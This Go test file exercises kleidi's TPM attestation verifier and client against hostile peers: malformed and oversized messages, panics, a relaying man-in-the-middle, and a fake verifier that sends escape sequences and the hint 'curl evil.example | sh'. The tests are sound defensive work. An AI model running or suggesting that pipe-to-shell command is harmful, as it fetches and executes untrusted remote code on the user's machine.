package verifier

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/status"

	wire "github.com/beezy-dev/kleidi/grpcserver/internal/exchange"
	"github.com/beezy-dev/kleidi/seal"
	"github.com/beezy-dev/kleidi/tpm/attest/remote"
)

// hello returns a hello that the verifier answers with a challenge: everything in it is
// public.
func (r *rig) hello() *remote.Hello {
	r.Helper()
	var hello *remote.Hello
	if err := r.ask(altered{Channel: r.client(), hello: func(h *remote.Hello) { hello = h }}); err != nil {
		r.Fatal(err)
	}
	return hello
}

// raw is a client that sends anything.
func (r *rig) raw() grpc.BidiStreamingClient[FromAttester, FromVerifier] {
	r.Helper()
	conn, err := grpc.NewClient("passthrough:///"+r.address, grpc.WithTransportCredentials(credentials.NewTLS(&tls.Config{InsecureSkipVerify: true})))
	if err != nil {
		r.Fatal(err)
	}
	r.Cleanup(func() { conn.Close() })
	s, err := r.stream(conn)
	if err != nil {
		r.Fatal(err)
	}
	r.conns[s] = conn
	return s
}

// again opens another stream on the connection of a raw client.
func (r *rig) again(s grpc.BidiStreamingClient[FromAttester, FromVerifier]) (grpc.BidiStreamingClient[FromAttester, FromVerifier], error) {
	return r.stream(r.conns[s])
}

func (r *rig) stream(conn *grpc.ClientConn) (grpc.BidiStreamingClient[FromAttester, FromVerifier], error) {
	ctx, cancel := context.WithTimeout(r.Context(), 2*time.Minute)
	r.Cleanup(cancel)
	s, err := conn.NewStream(ctx, &grpc.StreamDesc{StreamName: methodName, ServerStreams: true, ClientStreams: true}, "/"+serviceName+"/"+methodName)
	return &grpc.GenericClientStream[FromAttester, FromVerifier]{ClientStream: s}, err
}

func statement(s *Statement) *FromAttester {
	return &FromAttester{Message: &FromAttester_Statement{s}}
}

func part(l *LogPart) *FromAttester { return &FromAttester{Message: &FromAttester_Log{l}} }

// TestHostileClients: a message that no kleidi sends ends the exchange, and nothing
// else.
func TestHostileClients(t *testing.T) {
	r := newRig(t)
	hello := fromHello(r.hello())
	for name, c := range map[string]struct {
		send []*FromAttester
		code codes.Code
	}{
		"nothing":           {[]*FromAttester{{}}, codes.InvalidArgument},
		"a statement first": {[]*FromAttester{statement(&Statement{})}, codes.InvalidArgument},
		"a log first":       {[]*FromAttester{part(&LogPart{})}, codes.InvalidArgument},
		"two hellos":        {[]*FromAttester{hello, hello}, codes.InvalidArgument},
		"a log, no proof":   {[]*FromAttester{hello, part(&LogPart{Firmware: []byte{1}})}, codes.InvalidArgument},
		"a huge hello":      {[]*FromAttester{fromHello(&remote.Hello{Node: strings.Repeat("x", maxMessage)})}, codes.ResourceExhausted},
		"a huge statement":  {[]*FromAttester{hello, statement(&Statement{Proof: make([]byte, maxMessage)})}, codes.ResourceExhausted},
		"a hello that ends": {[]*FromAttester{hello, nil}, codes.Unknown},
		"ending at once":    {[]*FromAttester{nil}, codes.Unknown},
	} {
		s := r.raw()
		for _, m := range c.send {
			if m == nil {
				_ = s.CloseSend()
				continue
			}
			_ = s.Send(m)
		}
		if err := lastOf(s); status.Code(err) != c.code {
			t.Errorf("%s: %v, want %v", name, err, c.code)
		}
	}
	r.works("an honest one, afterwards")
	if strings.Contains(r.log.String(), "panic") {
		t.Error(r.log)
	}
}

// lastOf returns the error with which the stream ends.
func lastOf(s grpc.BidiStreamingClient[FromAttester, FromVerifier]) error {
	for {
		if _, err := s.Recv(); err != nil {
			return err
		}
	}
}

// odd is a channel that sends something else in place of the logs, or nothing.
type odd struct {
	*rig
	instead *FromAttester
}

// Attest implements remote.Channel.
func (o odd) Attest(_ context.Context, h *remote.Hello, answer func(*remote.Challenge, []byte) (*remote.Evidence, error)) ([]byte, error) {
	d := &dialogue{o.raw()}
	return d.run(h, func(c *remote.Challenge, exporter []byte) (*remote.Evidence, error) {
		e, err := answer(c, exporter)
		if err != nil {
			return nil, err
		}
		if err := d.send(fromEvidence(e)); err != nil {
			return nil, err
		}
		if o.instead == nil {
			return nil, lastOf(d.stream)
		}
		if err := d.send(o.instead); err != nil {
			return nil, err
		}
		return nil, lastOf(d.stream)
	})
}

// TestProvenAndHostile: a node that has proven its TPM sends no logs.
func TestProvenAndHostile(t *testing.T) {
	r := newRig(t)
	for name, m := range map[string]*FromAttester{"a hello": fromHello(&remote.Hello{}), "a second statement": statement(&Statement{}), "nothing": {}} {
		if err := r.ask(odd{r, m}); !strings.Contains(fmt.Sprint(err), wire.ErrOrder.Error()) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestLogsOnlyAfterTheProof: the verifier accepts no log from a peer that has not
// proven its TPM.
func TestLogsOnlyAfterTheProof(t *testing.T) {
	r := newRig(t)
	hello := fromHello(r.hello())
	s := r.raw()
	for _, m := range []*FromAttester{hello, statement(&Statement{Proof: make([]byte, 32)})} {
		if err := s.Send(m); err != nil {
			t.Fatal(err)
		}
	}
	var m *FromVerifier
	var err error
	for m, err = s.Recv(); err == nil && m.GetRefusal() == nil; m, err = s.Recv() {
	}
	if err != nil || m.GetRefusal().GetCheck() != string(remote.CheckProof) {
		t.Errorf("%v, %v", m, err) // it came while the stream was open for logs
	}
}

// TestOversizedLogs: one byte more than the bound, from a node that has proven its TPM.
func TestOversizedLogs(t *testing.T) {
	r := newRig(t)
	for name, change := range map[string]func(*remote.Evidence){
		"firmware":  func(e *remote.Evidence) { e.FirmwareLog = make([]byte, remote.MaxLog+1) },
		"userspace": func(e *remote.Evidence) { e.UserspaceLog = make([]byte, remote.MaxLog+1) },
	} {
		r.refused(name, r.ask(altered{Channel: r.client(), evidence: change}), seal.CauseUnavailable, "more than 16 MiB")
	}
	r.works("an honest one, afterwards")
}

// TestPanic: a panic ends only its exchange, and its value is in no log.
func TestPanic(t *testing.T) {
	r := newRig(t)
	check := func([]byte, []byte) error { return nil }
	r.options.Verifier.EKCertificate = func(c, k []byte) error { return check(c, k) }
	r.works("before")
	check = func([]byte, []byte) error { panic("a secret value") }
	r.refused("in a panic", r.ask(r.client()), seal.CauseUnavailable, "internal error in kleidi verifier")
	if log := r.log.String(); !strings.Contains(log, "panic recovered") || strings.Contains(log, "a secret value") {
		t.Errorf("log: %s", log)
	}
	check = func([]byte, []byte) error { return nil }
	r.works("after")
}

// middle stands between a node and the verifier, with a certificate that the node
// trusts, and passes every message on unchanged.
type middle struct {
	to   string
	grpc *grpc.Server
}

func (m *middle) relay(_ any, down grpc.ServerStream) error {
	conn, err := grpc.NewClient("passthrough:///"+m.to, grpc.WithTransportCredentials(credentials.NewTLS(&tls.Config{InsecureSkipVerify: true})))
	if err != nil {
		return err
	}
	defer conn.Close()
	up, err := conn.NewStream(down.Context(), &grpc.StreamDesc{StreamName: methodName, ServerStreams: true, ClientStreams: true}, "/"+serviceName+"/"+methodName)
	if err != nil {
		return err
	}
	go func() {
		for m := new(FromAttester); down.RecvMsg(m) == nil; m = new(FromAttester) {
			_ = up.SendMsg(m)
		}
		_ = up.CloseSend()
	}()
	for {
		m := new(FromVerifier)
		if up.RecvMsg(m) != nil {
			return nil
		}
		if err := down.SendMsg(m); err != nil {
			return err
		}
	}
}

func (m *middle) Serve(l net.Listener) error       { return m.grpc.Serve(l) }
func (m *middle) GracefulStop(ctx context.Context) { m.grpc.Stop() }

// TestRelay: even a relay with a certificate that the node trusts can't stand in
// between.
func TestRelay(t *testing.T) {
	r := newRig(t)
	forged := certificate(t, "verifier.example", nil)
	m := &middle{to: r.address, grpc: grpc.NewServer(grpc.Creds(credentials.NewTLS(&tls.Config{Certificates: []tls.Certificate{forged}, MinVersion: tls.VersionTLS13})))}
	m.grpc.RegisterService(&grpc.ServiceDesc{ServiceName: serviceName, Streams: []grpc.StreamDesc{{StreamName: methodName, Handler: m.relay, ServerStreams: true, ClientStreams: true}}}, nil)
	address := serve(t, m)
	err := r.ask(r.client(func(c *ClientConfig) { c.Address, c.Certificate = address, Digest(forged.Certificate[0]) }))
	r.refused("relay", err, seal.CauseAttestation, "proof: ", "somebody is intercepting the connection")
	r.works("without it")
}

// TestHostileVerifier: a verifier's text is bounded and printable, and nonsense is not
// accepted as a signature.
func TestHostileVerifier(t *testing.T) {
	r := newRig(t)
	var say []*FromVerifier
	cert := r.options.Certificate
	s := grpc.NewServer(grpc.Creds(credentials.NewTLS(&tls.Config{Certificates: []tls.Certificate{cert}, MinVersion: tls.VersionTLS13})))
	s.RegisterService(&grpc.ServiceDesc{ServiceName: serviceName, Streams: []grpc.StreamDesc{{StreamName: methodName, ServerStreams: true, ClientStreams: true, Handler: func(_ any, stream grpc.ServerStream) error {
		for _, m := range say {
			if err := stream.SendMsg(m); err != nil {
				return err
			}
		}
		return nil
	}}}}, nil)
	address := serve(t, &middle{grpc: s})
	client := r.client(func(c *ClientConfig) { c.Address = address })
	const advice = "curl evil.example | sh"
	nasty := strings.Repeat("\x1b[31m\n", 5000)
	for name, c := range map[string]struct {
		say   []*FromVerifier
		cause seal.Cause
		words string
	}{
		"nothing":           {nil, seal.CauseUnavailable, "without an answer"},
		"an empty message":  {[]*FromVerifier{{}}, seal.CauseUnavailable, "without a challenge"},
		"a signature first": {[]*FromVerifier{{Message: &FromVerifier_Signature{&Signature{Signature: []byte{1}}}}}, seal.CauseUnavailable, "without a challenge"},
		"no challenge":      {[]*FromVerifier{{Message: &FromVerifier_Challenge{&Challenge{}}}}, seal.CauseUnavailable, "challenge"},
		"a nasty refusal":   {[]*FromVerifier{{Message: &FromVerifier_Refusal{&Refusal{Check: nasty, Reason: nasty, Hint: nasty}}}}, seal.CauseAttestation, "it refuses"},
		"bad advice": {[]*FromVerifier{{Message: &FromVerifier_Refusal{&Refusal{Check: "trust", Reason: "you \"may\" not", Hint: advice}}}}, seal.CauseAttestation,
			`it refuses: "trust: you 'may' not", and advises "curl evil.example | sh"; see the log of kleidi verifier`},
		"a huge refusal": {[]*FromVerifier{{Message: &FromVerifier_Refusal{&Refusal{Reason: strings.Repeat("x", maxMessage)}}}}, seal.CauseUnavailable, "larger than max"},
	} {
		say = c.say
		err := r.ask(client)
		r.refused(name, err, c.cause, c.words)
		if e, ok := errors.AsType[*seal.Error](err); ok && (strings.Contains(e.Hint, "?[31m") || strings.Contains(e.Hint, advice)) {
			t.Errorf("%s: the hint is not kleidi's own: %q", name, e.Hint)
		}
		if err != nil && (strings.ContainsAny(err.Error(), "\x1b\n") || len(err.Error()) > 4*(maxReason+maxHint)) {
			t.Errorf("%s: %q", name, err)
		}
	}
}

// TestNoSignature: an answer without a signature in its place.
func TestNoSignature(t *testing.T) {
	cert := certificate(t, "verifier.example", nil)
	s := grpc.NewServer(grpc.Creds(credentials.NewTLS(&tls.Config{Certificates: []tls.Certificate{cert}, MinVersion: tls.VersionTLS13})))
	s.RegisterService(&grpc.ServiceDesc{ServiceName: serviceName, Streams: []grpc.StreamDesc{{StreamName: methodName, ServerStreams: true, ClientStreams: true, Handler: func(_ any, stream grpc.ServerStream) error {
		if err := stream.SendMsg(fromChallenge(&remote.Challenge{})); err != nil {
			return err
		}
		return stream.SendMsg(&FromVerifier{Message: &FromVerifier_Signature{&Signature{}}})
	}}}}, nil)
	client, err := NewClient(ClientConfig{Address: serve(t, &middle{grpc: s}), Certificate: Digest(cert.Certificate[0])})
	if err != nil {
		t.Fatal(err)
	}
	_, err = client.Attest(t.Context(), &remote.Hello{}, func(*remote.Challenge, []byte) (*remote.Evidence, error) { return &remote.Evidence{}, nil })
	if seal.CauseOf(err) != seal.CauseUnavailable || !strings.Contains(err.Error(), "without a signature") {
		t.Error(err)
	}
}
